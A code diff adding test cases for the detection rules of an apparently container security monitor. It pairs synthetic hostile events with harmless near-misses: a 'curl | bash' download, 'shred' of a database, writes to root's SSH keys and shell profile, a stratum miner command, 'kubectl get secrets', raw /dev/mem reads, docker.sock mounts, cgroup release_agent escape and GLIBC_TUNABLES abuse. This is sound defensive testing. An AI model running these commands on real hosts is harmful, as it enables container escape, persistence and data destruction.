@@ -6,11 +6,13 @@ import dataclasses
 
 import pytest
 
-from cauditd.events import Event
+from cauditd.events import ContainerMount, Event
 from cauditd.findings import Priority
 from cauditd.rules import RuleEngine, default_rules_dir, load_ruleset
+from tests.rules.fakeproc import DOCKER_CAPS, FakeProc
 from tests.rules.synth import (
     BASH,
+    CONTAINER,
     INIT,
     O_CREAT,
     O_TRUNC,
@@ -34,6 +36,16 @@ SHIM = RUNC
 CAT = proc("/bin/cat", "cat")
 PY = proc("/usr/bin/python3", "python3")
 RUNC_INIT = proc("/usr/bin/runc", "runc:[2:INIT]", parent=SHIM)
+CAP_SYS_ADMIN = 1 << 21
+
+
+def mounted(*sources: str) -> object:
+    return dataclasses.replace(CONTAINER, mounts=tuple(ContainerMount(s, f"/mnt{i}")
+                                                       for i, s in enumerate(sources)))
+
+
+def as_uid(event: Event, uid: int) -> Event:
+    return dataclasses.replace(event, uid=uid)
 
 
 def fired(event: Event) -> set[str]:
@@ -144,12 +156,85 @@ CASES: list[tuple[str, Event, Event]] = [
     ("Inbound connection to new port",
      dataclasses.replace(flow("172.17.0.2", 7000, direction="ingress"), port_first_seen=True),
      flow("172.17.0.2", 7000, direction="ingress")),
+    # activity.toml
+    ("Ingress tool download in container", execve("/usr/bin/wget", "wget", "http://x/p"),
+     execve("/usr/bin/curl", "curl", "-s", "-I", "http://x/")),
+    ("Ingress tool download in container",
+     execve("/usr/bin/curl", "curl", "-sSLo", "/tmp/p", "http://x/p"),
+     execve("/usr/bin/curl", "curl", "-s", "-H", "X-Proto: o", "http://x/health")),
+    ("Ingress tool download in container",
+     execve("/usr/bin/curl", "curl", "-s", "http://x/i.sh",
+            parent=proc("/bin/sh", "sh", "-c", "curl -s http://x/i.sh | bash")),
+     execve("/usr/bin/curl", "curl", "-s", "http://x/",
+            parent=proc("/bin/sh", "sh", "-c", "curl -s http://x/ | grep -q ok"))),
+    ("Directory created below binary dir", file_event("mkdir", "/usr/local/bin/.x", ret=0),
+     file_event("mkdir", "/usr/local/bin/.x", ret=-17)),
+    ("Bulk data destruction in container", execve("/usr/bin/shred", "shred", "-u", "/data/db"),
+     execve("/bin/rm", "rm", "/tmp/x")),
+    ("PTRACE anti-debug attempt", syscall("ptrace", {"request": 0, "pid": 0}),
+     syscall("ptrace", {"request": 16, "pid": 1})),
+    ("SSH authorized keys modified", open_write("/root/.ssh/authorized_keys", process=PY),
+     open_write("/root/.ssh/known_hosts", process=PY)),
+    ("Shell configuration file modified in container",
+     open_write("/root/.bashrc", flags=O_WRONLY | 0o2000), open_read("/root/.bashrc")),
+    ("Shell configuration file modified in container",
+     open_write("/etc/profile.d/zz.sh", process=PY), open_write("/etc/profile.bak")),
+    ("Crypto miner stratum command line",
+     execve("/tmp/x", "x", "-o", "stratum+tcp://pool.example:3333"),
+     execve("/tmp/x", "x", "-o", "tcp://pool.example:3333")),
+    ("Container client tool launched in container",
+     execve("/usr/local/bin/kubectl", "kubectl", "get", "secrets"),
+     execve("/usr/bin/git", "git", "status")),
+    # escape.toml
+    ("eBPF program loaded in container", syscall("bpf", {"cmd": 5}, ret=-1),
+     syscall("bpf", {"cmd": 0})),
+    ("Unprivileged userfaultfd in container", as_uid(syscall("userfaultfd", {"flags": 0}), 1000),
+     syscall("userfaultfd", {"flags": 0})),
+    ("Raw disk or kernel memory opened in container", open_read("/dev/sda1", process=CAT),
+     open_read("/dev/null", process=CAT)),
+    ("Raw disk or kernel memory opened in container", open_read("/dev/mem", process=CAT),
+     open_read("/dev/memory-x", process=CAT)),
+    ("Process executable written through /proc", open_write("/proc/self/exe", ret=-26),
+     open_read("/proc/self/exe")),
+    ("Container started with a sensitive host mount",
+     execve("/bin/sh", pid=4000, container=mounted("/var/run/docker.sock")),  # type: ignore[arg-type]
+     execve("/bin/sh", pid=4000, container=mounted("/srv/data"))),  # type: ignore[arg-type]
+    ("Container started with a sensitive host mount",
+     execve("/bin/sh", pid=4000, container=mounted("/")),  # type: ignore[arg-type]
+     execve("/bin/sh", pid=4100, container=mounted("/"))),  # type: ignore[arg-type]
+    ("Debugfs launched in container", execve("/sbin/debugfs", "debugfs", "/dev/sda1"),
+     execve("/sbin/fsck", "fsck", "/dev/sda1")),
 ]
+
+# Rules whose fields come from /proc (fake_proc): (rule, event, its process's /proc, expected)
+PROC_CASES: list[tuple[str, Event, dict[str, object], bool]] = [
+    ("Cgroup release_agent written in container", open_write("/tmp/cg/release_agent"),
+     {"caps": DOCKER_CAPS | CAP_SYS_ADMIN}, True),
+    ("Cgroup release_agent written in container", open_write("/tmp/cg/release_agent"),
+     {"caps": DOCKER_CAPS}, False),
+    ("Container started with excessive capabilities", execve("/bin/sh", pid=4200),
+     {"caps": DOCKER_CAPS | CAP_SYS_ADMIN, "vpid": 1}, True),
+    ("Container started with excessive capabilities", execve("/bin/sh", pid=4200),
+     {"caps": DOCKER_CAPS, "vpid": 1}, False),
+    ("Container started with excessive capabilities", execve("/bin/sh", pid=4200),
+     {"caps": DOCKER_CAPS | CAP_SYS_ADMIN, "vpid": 9}, False),
+    ("Glibc tunables in environment", execve("/usr/bin/su"),
+     {"env": ("GLIBC_TUNABLES=glibc.tune.malloc.x=" + "A" * 50,)}, True),
+    ("Glibc tunables in environment", execve("/usr/bin/su"), {"env": ("GLIBC=1",)}, False),
+]
+
+
+@pytest.mark.parametrize(("rule", "event", "proc_entry", "expected"), PROC_CASES,
+                         ids=[f"{c[0]}-{i}" for i, c in enumerate(PROC_CASES)])
+def test_default_rule_reading_proc(fake_proc: FakeProc, rule: str, event: Event,
+                                   proc_entry: dict[str, object], expected: bool) -> None:
+    fake_proc.process(event.pid, **{"vpid": 7, **proc_entry})  # type: ignore[arg-type,attr-defined]
+    assert (rule in fired(event)) is expected
 
 
 def test_every_default_rule_has_a_case() -> None:
     threshold_rules = {r.name for r in RULESET.rules if r.threshold is not None}
-    covered = {name for name, _, _ in CASES} | threshold_rules
+    covered = {name for name, _, _ in CASES} | {name for name, *_ in PROC_CASES} | threshold_rules
     assert {r.name for r in RULESET.rules} == covered
 
 
